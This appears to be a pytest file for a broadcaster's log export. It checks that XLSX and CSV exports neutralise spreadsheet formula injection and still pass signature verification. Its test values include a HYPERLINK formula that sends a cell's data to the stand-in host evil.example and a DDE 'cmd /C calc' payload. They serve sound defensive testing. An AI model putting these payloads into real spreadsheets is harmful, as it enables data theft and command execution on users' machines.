"""No exported cell becomes a formula, and the escaped export still verifies against the original.

A campaign or a slot named ``=HYPERLINK("http://…","Bấm vào đây")`` must reach the office's
spreadsheet as the text it is, never as a live link.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from broadcaster import evidence
from broadcaster.campaigns import add_campaign
from broadcaster.reports.cells import FORMULA_STARTS

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
NAMES = {
    "title": LINK,  # the slot's name is the entry's title
    "campaign": LINK.replace("Bấm", "Xem"),
    "reason": "@SUM(1+1)*cmd|' /C calc'!A0",
    "zone": "+84 Thôn Đông",
    "category": "-2+3",
    "output": "\tmain",
    "host": "\r=1+1",
}


def _entries(ctx: Any, cli: Any) -> None:
    at = dt.datetime(2026, 11, 21, 0, 0, tzinfo=dt.timezone.utc)
    with ctx.session() as session:
        add_campaign(session, name=NAMES["campaign"], starts_on=dt.date(2026, 11, 20), ends_on=dt.date(2026, 11, 30))
    with ctx.session() as session:
        for n in range(2):
            evidence.append_entry(
                session, occurrence_key=f"slot-1@2026-11-2{n + 1}", status="missed" if n else "completed",
                scheduled_at=at + dt.timedelta(days=n), started_at=at + dt.timedelta(days=n),
                ended_at=at + dt.timedelta(days=n, seconds=30), seconds_played=30.0, priority="normal",
                now=at + dt.timedelta(days=n, seconds=31), **NAMES,
            )
    assert cli("log", "checkpoint").exit_code == 0


def test_xlsx_cells_are_text_never_formulas(ctx: Any, cli: Any, tmp_path: Path) -> None:
    _entries(ctx, cli)
    out = tmp_path / "bao-cao.xlsx"
    assert cli("log", "export", "--format", "xlsx", "--out", str(out)).exit_code == 0
    book = load_workbook(out)
    seen: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    for field, value in NAMES.items():
        if field == "host":  # the XLSX leaves the host to the verifiable CSV and JSON
            continue
        assert value in seen, f"{field} must be kept as the text it was: {value!r}"
    detail = book["Chi tiết"]
    titles = [c.value for c in detail["I"]]
    assert LINK in titles, titles


def test_csv_cells_start_with_no_formula_and_still_verify(ctx: Any, cli: Any, tmp_path: Path) -> None:
    _entries(ctx, cli)
    out = tmp_path / "nhat-ky.csv"
    assert cli("log", "export", "--format", "csv", "--out", str(out)).exit_code == 0
    text = out.read_bytes().decode("utf-8-sig")  # as written: a CR inside a cell stays a CR
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), f"a spreadsheet would evaluate {cell!r}"
    assert "'" + LINK in cells and "'\r=1+1" in cells, "written as text with the apostrophe prefix"
    result = cli("log", "verify", "--file", str(out), "--public-key", str(ctx.settings.public_key_path))
    assert result.exit_code == 0, result.output
    from broadcaster.reports.csv_report import read_csv

    records = read_csv(out).records
    assert records[0]["title"] == LINK and records[0]["host"] == NAMES["host"], records[0]
    tampered = tmp_path / "sua.csv"
    assert "evil.example" in text
    tampered.write_bytes(text.replace("evil.example", "good.example", 1).encode("utf-8-sig"))
    result = cli("log", "verify", "--file", str(tampered), "--public-key", str(ctx.settings.public_key_path))
    assert result.exit_code == 1, "the verifier checks the original value, not the escaped one"


def test_a_value_starting_with_an_apostrophe_round_trips(ctx: Any, cli: Any, tmp_path: Path) -> None:
    at = dt.datetime(2026, 11, 21, 0, 0, tzinfo=dt.timezone.utc)
    with ctx.session() as session:
        evidence.append_entry(session, occurrence_key=None, status="completed", scheduled_at=at, started_at=at,
                              ended_at=at, title="'=A1 (đã có dấu nháy)", now=at)
    assert cli("log", "checkpoint").exit_code == 0
    out = tmp_path / "nhay.csv"
    assert cli("log", "export", "--format", "csv", "--out", str(out)).exit_code == 0
    result = cli("log", "verify", "--file", str(out), "--public-key", str(ctx.settings.public_key_path))
    assert result.exit_code == 0, result.output
